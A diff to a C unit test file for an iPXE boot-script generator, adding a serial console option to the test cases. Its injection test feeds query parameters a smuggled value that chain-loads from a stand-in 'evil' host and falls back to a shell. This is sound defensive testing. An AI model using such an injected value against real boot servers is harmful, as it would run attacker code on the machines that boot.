@@ -133,21 +133,26 @@ static void test_scripts(void **state)
 		const char *name, *arch;
 		enum boot_action action;
 		bool firmware;
-		const char *esp_uuid;
+		const char *esp_uuid, *console;
 	} rows[] = {
-		{"agent-x86_64.ipxe", "x86_64", BOOT_AGENT, false, NULL},
-		{"agent-aarch64.ipxe", "arm64", BOOT_AGENT, true, NULL},
-		{"local.ipxe", "x86_64", BOOT_LOCAL, false, NULL},
-		{"local.ipxe", "x86_64", BOOT_LOCAL, false, ""},
-		{"local.ipxe", "x86_64", BOOT_LOCAL, false, "5d0f7a10-3c1e-4b57-9a41-51a7b105010"},
-		{"local.ipxe", "x86_64", BOOT_LOCAL, false,
-		 "5d0f7a10-3c1e-4b57-9a41-51a7b1050101x"},
-		{"local.ipxe", "x86_64", BOOT_LOCAL, false, "5d0f7a1043c1e-4b57-9a41-51a7b1050101"},
-		{"local.ipxe", "x86_64", BOOT_LOCAL, false,
-		 "5d0f7a10-3c1e-4b57-9a41-51a7b10501\nx"},
-		{"local.ipxe", "x86_64", BOOT_LOCAL, false, "5d0f7a10-3c1e-4b57-9a41-${serial}xx"},
+		{"agent-x86_64.ipxe", "x86_64", BOOT_AGENT, false, NULL, NULL},
+		{"agent-x86_64.ipxe", "x86_64", BOOT_AGENT, false, NULL, ""},
+		{"agent-console.ipxe", "x86_64", BOOT_AGENT, false, NULL, "ttyS1,115200n8"},
+		{"agent-aarch64.ipxe", "arm64", BOOT_AGENT, true, NULL, NULL},
+		{"local.ipxe", "x86_64", BOOT_LOCAL, false, NULL, NULL},
+		{"local.ipxe", "x86_64", BOOT_LOCAL, false, "", NULL},
+		{"local.ipxe", "x86_64", BOOT_LOCAL, false, "5d0f7a10-3c1e-4b57-9a41-51a7b105010",
+		 NULL},
+		{"local.ipxe", "x86_64", BOOT_LOCAL, false, "5d0f7a10-3c1e-4b57-9a41-51a7b1050101x",
+		 NULL},
+		{"local.ipxe", "x86_64", BOOT_LOCAL, false, "5d0f7a1043c1e-4b57-9a41-51a7b1050101",
+		 NULL},
+		{"local.ipxe", "x86_64", BOOT_LOCAL, false, "5d0f7a10-3c1e-4b57-9a41-51a7b10501\nx",
+		 NULL},
+		{"local.ipxe", "x86_64", BOOT_LOCAL, false, "5d0f7a10-3c1e-4b57-9a41-${serial}xx",
+		 NULL},
 		{"local-esp.ipxe", "x86_64", BOOT_LOCAL, false,
-		 "5d0f7a10-3c1e-4b57-9a41-51A7b1050101"},
+		 "5d0f7a10-3c1e-4b57-9a41-51A7b1050101", NULL},
 	};
 	(void)state;
 	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
@@ -159,6 +164,7 @@ static void test_scripts(void **state)
 						"sha256//PIN=",
 						"boot-1",
 						rows[i].firmware ? "debug" : NULL,
+						rows[i].console,
 						rows[i].firmware,
 						rows[i].esp_uuid};
 		boot_query_set(&q, "arch", rows[i].arch);
@@ -183,8 +189,8 @@ static void test_script_injection(void **state)
 		autostr struct str out;
 		struct boot_query q = {.cpu_64bit = true};
 		struct boot_answer a = {BOOT_AGENT, "because"};
-		struct boot_script_options o = {"http://h", "https://h", "p", "b",
-						NULL,       false,       NULL};
+		struct boot_script_options o = {"http://h", "https://h", "p",   "b",
+						NULL,       NULL,        false, NULL};
 		boot_query_set(&q, "arch", "x86_64");
 		boot_query_set(&q, parameters[i], "EVIL\nchain http://evil/${x} || shell");
 		str_init(&out, SCRIPT_MAX_BYTES);
